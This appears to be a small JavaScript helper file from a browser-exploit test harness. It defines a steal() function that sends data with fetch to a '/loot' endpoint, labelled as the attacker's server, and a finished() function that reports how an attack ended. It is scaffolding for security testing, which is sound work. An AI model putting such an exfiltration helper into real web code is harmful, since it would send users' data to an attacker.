// What every attacker has at hand. steal(): to the attacker's server. finished(): the attack is over, well or badly.
/* oxlint-disable no-unused-vars -- exploit.html calls them */
const pending = []
function steal(data) {
  pending.push(fetch('/loot', { method: 'POST', mode: 'no-cors', body: data }).catch(() => {}))
}
async function finished(how) {
  await Promise.all(pending)
  await fetch('/finished', { method: 'POST', mode: 'no-cors', body: how })
}
